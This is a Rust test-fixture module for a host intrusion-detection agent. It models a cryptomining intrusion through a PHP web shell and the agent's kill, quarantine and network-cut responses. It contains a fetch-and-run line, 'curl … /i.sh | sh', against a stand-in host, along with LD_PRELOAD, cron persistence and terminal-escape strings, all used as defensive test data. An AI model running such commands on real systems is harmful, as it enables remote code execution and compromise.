//! Canned answers: one intrusion as the agent would tell it, and a host that watches.

#![allow(dead_code, missing_docs, unreachable_pub)]

pub mod connections;
pub mod network;

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use davy_model::*;
use davy_wire::*;

/// 2026-02-03T03:12:41Z.
pub const BEGAN: Timestamp = Timestamp::from_secs(1_770_088_361);

pub fn key(pid: u32) -> ProcessKey {
    ProcessKey { pid, start_ticks: u64::from(pid) * 100, boot: 0xb007 }
}

fn techniques(ids: &[&str]) -> Vec<Technique> {
    ids.iter().map(|id| Technique::new(id)).collect()
}

fn act(after: f64, relation: &str, text: &str, user: Option<&str>, ids: &[&str]) -> TimelineEntry {
    TimelineEntry {
        time: BEGAN.plus_secs(after),
        relation: relation.to_owned(),
        text: text.to_owned(),
        process: None,
        user: user.map(str::to_owned),
        techniques: techniques(ids),
    }
}

fn node(depth: u32, pid: u32, comm: &str, path: &str, suspect: bool) -> TreeNode {
    let (comm, path) = (comm.to_owned(), path.to_owned());
    TreeNode { depth, process: key(pid), comm, path, suspect, alive: !suspect }
}

pub fn evidence(signal: Signal, weight: f32, text: &str, numbers: &[(&str, f64)]) -> Evidence {
    Evidence {
        time: BEGAN.plus_secs(8.0),
        signal,
        weight,
        text: text.to_owned(),
        numbers: numbers.iter().map(|(n, v)| ((*n).to_owned(), *v)).collect::<BTreeMap<_, _>>(),
        process: Some(key(4711)),
        flow: (signal == Signal::PoolShape).then_some(FlowKey(88)),
        technique: (weight > 0.0).then(|| Technique::new("T1496.001")),
    }
}

pub fn finding() -> Finding {
    Finding {
        id: FindingId(12),
        kind: FindingKind::Mining,
        first: BEGAN.plus_secs(3.0),
        time: BEGAN.plus_secs(8.0),
        severity: Severity::Critical,
        confidence: 1.0 - 2f64.powi(-20),
        subject: Some(key(4711)),
        processes: vec![key(4711), key(4712)],
        summary: "\"nginx\" mines RandomX on 2 threads".to_owned(),
        evidence: vec![
            evidence(
                Signal::RoundingMode,
                19.5,
                "the rounding mode changed in 38 of 40 samples",
                &[("changed", 38.0), ("samples", 40.0)],
            ),
            evidence(
                Signal::ComputeShape,
                6.1,
                "2 threads at 99 % with hardly a system call",
                &[("cpu", 1.98)],
            ),
            evidence(Signal::PoolShape, 5.2, "198.51.100.7:443: sizes and rhythm of a pool", &[]),
            evidence(Signal::OddParent, -0.8, "a shell may start such a thing", &[]),
        ],
        techniques: techniques(&["T1036", "T1496.001"]),
    }
}

fn record(id: u64, action: Action, state: ActionState, note: &str) -> ActionRecord {
    ActionRecord {
        id: ActionId(id),
        time: BEGAN.plus_secs(9.0),
        changed: BEGAN.plus_secs(9.4),
        incident: Some(IncidentId(7)),
        finding: Some(FindingId(12)),
        action,
        state,
        note: note.to_owned(),
        undoable: state == ActionState::Done && id != 30,
        undo: String::new(),
    }
}

pub fn actions() -> Vec<ActionRecord> {
    let tree = vec![key(4711), key(4712), key(4713), key(4714)];
    let file = FileId { dev: 2049, ino: 77 };
    let pool = Destination { address: IpAddr::V4(Ipv4Addr::new(198, 51, 100, 7)), port: 0 };
    vec![
        record(30, Action::Kill { root: key(4711), tree }, ActionState::Done, ""),
        record(
            31,
            Action::Quarantine { path: "/var/www/shop/img/a.php".to_owned(), file, process: None },
            ActionState::Done,
            "412 bytes",
        ),
        record(
            32,
            Action::Cut { destination: pool, cgroup: None, seconds: 86_400 },
            ActionState::Done,
            "2 flows ended",
        ),
        record(
            33,
            Action::Freeze { root: key(1), tree: vec![key(1)] },
            ActionState::Refused,
            "nothing acts on pid 1",
        ),
    ]
}

pub fn quarantined() -> Vec<Quarantined> {
    let sealed = Quarantined {
        number: 3,
        path: "/var/www/shop/img/a.php".to_owned(),
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_owned(),
        bytes: 412,
        sealed_bytes: 371,
        shares: None,
        taken: BEGAN.plus_secs(9.4),
        uid: 33,
        gid: 33,
        mode: 0o755,
        accessed: BEGAN.plus_secs(-60.0),
        modified: BEGAN.plus_secs(-3600.0),
        xattrs: vec!["user.origin".to_owned()],
        links: 2,
        restorable: true,
        action: Some(ActionId(31)),
        incident: Some(IncidentId(7)),
    };
    let nameless = Quarantined {
        number: 5,
        path: "/memfd:kworker\u{1b}[31m (deleted)".to_owned(),
        shares: Some(3),
        restorable: false,
        incident: None,
        ..sealed.clone()
    };
    vec![sealed, nameless]
}

pub fn incident() -> Incident {
    Incident {
        id: IncidentId(7),
        state: IncidentState::Stopped,
        severity: Severity::Critical,
        title: "mining, stopped".to_owned(),
        first: BEGAN,
        last: BEGAN.plus_secs(9.0),
        detected: BEGAN.plus_secs(5.5),
        stopped: Some(BEGAN.plus_secs(9.4)),
        timeline: vec![
            act(0.0, "began with", "connection from 203.0.113.9 to port 443", Some("www-data"), &[]),
            act(1.0, "which wrote", "/var/www/shop/img/a.php", Some("www-data"), &["T1505.003"]),
            act(
                2.0,
                "which ran",
                "sh -c \"curl -s http://203.0.113.9/i.sh | sh\"",
                Some("www-data"),
                &["T1059.004"],
            ),
            act(
                3.0,
                "which ran",
                "\"nginx\" from memory, no file; not nginx",
                Some("www-data"),
                &["T1620", "T1036"],
            ),
            act(
                4.0,
                "which mined",
                "RandomX: rounding mode changed in 38 of 40 samples, 2 threads at 99 %, 2.1 GiB, started with nice 19 \
                 and pinned to two CPUs",
                Some("www-data"),
                &["T1496.001"],
            ),
            act(
                5.0,
                "talking to",
                "198.51.100.7:443 in TLS: sizes and rhythm of a pool (0.97), on no list",
                None,
                &[],
            ),
        ],
        tree: vec![
            node(0, 811, "apache2", "/usr/sbin/apache2", false),
            node(1, 4700, "sh", "/usr/bin/dash", false),
            node(2, 4711, "nginx", "memfd:x", true),
            node(1, 4720, "php", "/usr/bin/php8.2", false),
        ],
        findings: vec![finding()],
        actions: actions(),
        techniques: techniques(&["T1036", "T1059.004", "T1496.001", "T1505.003", "T1620"]),
    }
}

/// An incident as the list gives it, which leaves timeline and tree out.
pub fn listed() -> Vec<Incident> {
    let first = Incident {
        id: IncidentId(6),
        state: IncidentState::Ended,
        severity: Severity::Medium,
        title: "masquerade, ended".to_owned(),
        tree: vec![],
        findings: vec![],
        actions: vec![],
        timeline: vec![],
        ..incident()
    };
    vec![first, Incident { timeline: vec![], tree: vec![], ..incident() }]
}

fn event(after: f64, pid: u32, kind: EventKind) -> Event {
    Event { time: BEGAN.plus_secs(after), process: Some(key(pid)), kind }
}

pub fn process(pid: u32, comm: &str, path: &str, args: &[&str]) -> ProcessInfo {
    ProcessInfo {
        key: key(pid),
        parent: Some(key(811)),
        comm: comm.to_owned(),
        image: ExecImage { path: path.to_owned(), file: FileId { dev: 2049, ino: 5 }, kind: ImageKind::File },
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        args_cut: false,
        env: vec![],
        cwd: "/tmp".to_owned(),
        creds: Credentials { uid: 33, euid: 33, gid: 33, ..Credentials::default() },
        tty: None,
        cgroup: "/system.slice/apache2.service".to_owned(),
        cgroup_id: 9,
        container: None,
        ns: Namespaces::default(),
        kernel_thread: false,
    }
}

/// One event of every kind, with texts that try to speak to the terminal.
pub fn events() -> Vec<Event> {
    let local = SocketAddr::from(([192, 0, 2, 5], 40_000));
    let remote = SocketAddr::from(([198, 51, 100, 7], 443));
    let flow = FlowKey(88);
    let open = FlowOpen { flow, transport: Transport::Tcp, local, remote, accepted: false };
    let mut nameless = process(4711, "nginx", "memfd:x", &["nginx", "\u{1b}[2J\u{202e}gpj.exe", "a\nb"]);
    nameless.image.kind = ImageKind::Memfd;
    nameless.env = vec![("LD_PRELOAD".to_owned(), "/tmp/x.so".to_owned())];
    let volume =
        FlowVolume { sent_bytes: 1300, received_bytes: 90_112, sent_packets: 10, received_packets: 70 };
    let listener = FlowOpen { local: SocketAddr::from(([0, 0, 0, 0], 80)), ..open };
    let chunk = FlowChunk { flow, direction: Direction::Sent, size: 26, offset: 0 };
    let login = Speech { enters: true, dialect: Some(Dialect::Login), ..Speech::default() };
    let dialogue = Dialogue { sent: login, ..Dialogue::default() };
    let reading = FlowReading {
        flow,
        tls: false,
        name: Some("pool.example".to_owned()),
        request: None,
        random_start: false,
        dialogue,
    };
    let changed = |path: &str, act: FileAct, place: Option<PersistencePlace>| FileChange {
        path: path.to_owned(),
        file: FileId::default(),
        act,
        executable: true,
        code: true,
        place,
    };
    let memory = MemoryShape {
        process: key(4711),
        resident: 2_230_000_000,
        hugetlb: 0,
        largest_anonymous: 2_181_038_080,
        scratchpads: 2,
        anonymous_executable: 1 << 20,
        writable_executable: 0,
        nameless_code: 1,
    };
    let gpu = GpuUse {
        process: key(4711),
        device: "0000:01:00.0".to_owned(),
        busy_permille: Some(987),
        memory: 4 << 30,
    };
    let kinds = vec![
        EventKind::Found(Box::new(process(
            811,
            "apache2",
            "/usr/sbin/apache2",
            &["/usr/sbin/apache2", "-k", "start"],
        ))),
        EventKind::Fork { child: key(4700), comm: "apache2".to_owned() },
        EventKind::Exec(Box::new(process(4700, "sh", "/usr/bin/dash", &["sh", "-c", "curl -s x | sh"]))),
        EventKind::Exec(Box::new(nameless)),
        EventKind::Renamed { comm: "[kworker/0:1]".to_owned() },
        EventKind::FlowOpen(open),
        EventKind::Listen(listener),
        EventKind::FlowChunk(chunk),
        EventKind::FlowRead(Box::new(reading)),
        EventKind::Inbound(InboundRefusal {
            transport: Transport::Tcp,
            port: 5432,
            from: remote.ip(),
            refused: false,
        }),
        EventKind::Outbound(Box::new(OutboundAttempt {
            refused: true,
            protocol: OutboundProtocol::Tcp,
            address: remote.ip(),
            port: 3333,
            names: vec!["pool.example".to_owned()],
            unit: "apache2.service".to_owned(),
            cgroup: "/system.slice/apache2.service".to_owned(),
            container: None,
            uid: 33,
            comm: "sh".to_owned(),
            count: 3,
            why: "no rule of davy.toml:4 allows it".to_owned(),
        })),
        EventKind::Lateral(Box::new(LateralMove {
            mover: Mover::Service("apache2.service".to_owned()),
            from: Some("apache".to_owned()),
            reached: vec![LateralReach {
                service: "SSH".to_owned(),
                technique: Technique::new("T1021.004"),
                addresses: [7, 8].map(|n| IpAddr::V4(Ipv4Addr::new(10, 0, 3, n))).to_vec(),
                count: 5,
            }],
            began: Timestamp::from_secs(1_800_000_000),
            secs: 12,
            millibits: 13_000,
            learning: false,
            stopped_by: "`[outbound]` is off; enforced, it would stop this".to_owned(),
        })),
        EventKind::Name(NameAnswer { name: "pool.example".to_owned(), address: remote.ip(), ttl_secs: 60 }),
        EventKind::File(changed("/etc/cron.d/x", FileAct::Written, Some(PersistencePlace::Cron))),
        EventKind::File(changed("/tmp/b", FileAct::Renamed { from: Some("/tmp/a".to_owned()) }, None)),
        EventKind::Code(CodeAct::NamelessExec { memfd: true }),
        EventKind::Code(CodeAct::Trace { target: key(811), write: true }),
        EventKind::Code(CodeAct::HugePagesReserved { before: 0, now: 1280 }),
        EventKind::Memory(memory),
        EventKind::Gpu(gpu),
        EventKind::Syscalls { count: 3, cpu_ns: 1_990_000_000 },
        EventKind::FlowClose(FlowClose { flow, volume }),
        EventKind::Flows(FlowAggregate {
            transport: Transport::Tcp,
            local: SocketAddr::from(([0, 0, 0, 0], 0)),
            remote,
            accepted: false,
            flows: 7940,
            volume: FlowVolume::default(),
        }),
        EventKind::Exit(Exit { code: None, signal: Some(9), cpu_ns: 12_300_000_000 }),
    ];
    kinds
        .into_iter()
        .enumerate()
        .map(|(n, kind)| {
            let pid = match &kind {
                EventKind::Found(info) | EventKind::Exec(info) => info.key.pid,
                EventKind::Fork { .. } => 811,
                _ => 4711,
            };
            event(n as f64 / 10.0, pid, kind)
        })
        .collect()
}

fn protection(
    name: &str,
    mode: Mode,
    tier: Option<Tier>,
    proven: Option<bool>,
    note: &str,
) -> ProtectionStatus {
    ProtectionStatus { name: name.to_owned(), mode, tier, proven, note: note.to_owned() }
}

pub fn status() -> AgentStatus {
    let probe = |capability, works, reason: &str| Probe { capability, works, reason: reason.to_owned() };
    AgentStatus {
        version: env!("CARGO_PKG_VERSION").to_owned(),
        started: BEGAN.plus_secs(-12_000.0),
        pid: 812,
        host: "web1".to_owned(),
        kernel: "6.18.5".to_owned(),
        tier: Tier::Permission,
        protections: vec![
            protection(
                "mining",
                Mode::Enforce,
                Some(Tier::Permission),
                Some(true),
                "task iterator, cgroup BPF",
            ),
            protection(
                "fileless",
                Mode::Observe,
                Some(Tier::Signal),
                Some(true),
                "tracing BPF; the kernel refuses LSM programs",
            ),
            protection("persistence", Mode::Observe, Some(Tier::Poll), None, "inotify on 14 places"),
            protection("tampering", Mode::Off, None, None, "off by policy"),
        ],
        probes: vec![
            probe(Capability::Tracing, true, "a tp_btf program loaded and ran"),
            probe(
                Capability::LsmBpf,
                false,
                "BPF_PROG_LOAD said EPERM; boot with lsm=...,bpf on a kernel that allows it",
            ),
        ],
        disarmed_until: None,
        fallen_back: vec![],
        isolated: vec![],
        banned: 0,
        policy: PolicySummary {
            path: Some("/etc/davy/davy.toml".to_owned()),
            loaded: BEGAN.plus_secs(-12_000.0),
            scope: "host".to_owned(),
            refused: String::new(),
        },
        events: 1_204_311,
        drops: vec![],
        store: StoreStatus {
            path: "/var/lib/davy/store".to_owned(),
            bytes: 48 << 20,
            max_bytes: 2 << 30,
            events: 912_000,
            lost: 0,
            failing: None,
            temporary: None,
        },
        running_incidents: vec![],
        resident: 41 << 20,
        cpu_ns: 0,
        processes: 204,
        flows: 88,
        workers: vec![WorkerStatus {
            name: "inspect".to_owned(),
            pid: Some(815),
            confinement: Some(Confinement {
                unprivileged: true,
                files_closed: true,
                calls_filtered: true,
                memory: 512 << 20,
                missing: Vec::new(),
            }),
            ..WorkerStatus::default()
        }],
        dashboard: None,
        last_canary: Some(Proof {
            time: BEGAN.plus_secs(-600.0),
            tally: Tally { held: 5, of: 5, failed: vec![] },
        }),
        last_drill: Some(Proof {
            time: BEGAN.plus_secs(-90_000.0),
            tally: Tally { held: 13, of: 13, failed: vec![] },
        }),
    }
}

pub fn top() -> TopView {
    let flow = TreeFlow {
        transport: Transport::Tcp,
        remote: "pool.example (198.51.100.7):443".to_owned(),
        volume: FlowVolume {
            sent_bytes: 1300,
            received_bytes: 90_112,
            sent_packets: 10,
            received_packets: 70,
        },
    };
    TopView {
        time: BEGAN,
        cpus: 4,
        event_rate: 1204.4,
        trees: vec![
            BusyTree {
                root: key(4711),
                comm: "nginx".to_owned(),
                path: "memfd:x".to_owned(),
                user: "www-data".to_owned(),
                cpu: 1.98,
                threads: 2,
                bits: 20.1,
                confidence: 0.999_999_1,
                evidence: vec![
                    "the rounding mode changed in 38 of 40 samples".to_owned(),
                    "2 threads at 99 % with hardly a system call".to_owned(),
                ],
                flows: vec![flow],
                stopped: false,
            },
            BusyTree {
                root: key(900),
                comm: "cc1plus".to_owned(),
                path: "/usr/lib/gcc/cc1plus".to_owned(),
                user: "build".to_owned(),
                cpu: 0.93,
                threads: 1,
                bits: -11.2,
                confidence: 0.000_4,
                evidence: vec![],
                flows: vec![],
                stopped: false,
            },
        ],
        blocked: vec!["198.51.100.7:3333".to_owned()],
    }
}
